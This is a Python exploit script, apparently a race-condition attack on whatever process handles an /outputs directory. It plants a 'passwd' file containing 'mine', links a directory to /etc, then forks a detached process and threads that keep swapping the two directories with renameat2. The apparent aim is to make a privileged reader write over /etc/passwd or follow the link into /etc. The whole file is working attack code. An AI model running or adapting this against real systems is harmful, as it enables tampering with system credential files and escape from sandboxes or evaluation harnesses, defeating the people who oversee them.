import os
import threading
import time

from attack import leave, link, system_call

leave("a/passwd", "mine")
if not link("/etc", "b"):
    leave("b/passwd", "mine")


def swap():
    names = [os.fsencode("/outputs/" + name) for name in ("a", "b", ".swap")]
    end = time.monotonic() + 30
    while time.monotonic() < end:
        try:
            system_call("renameat2", -100, names[0], -100, names[1], 2)
        except OSError:  # no exchange in this kernel: in three steps, one at a time
            with lock:
                for source, target in ((0, 2), (1, 0), (2, 1)):
                    os.rename(names[source], names[target])


lock = threading.Lock()
if os.fork() == 0:
    os.setsid()
    swap()
for _ in range(2):
    threading.Thread(target=swap, daemon=True).start()
time.sleep(0.5)
os._exit(0)
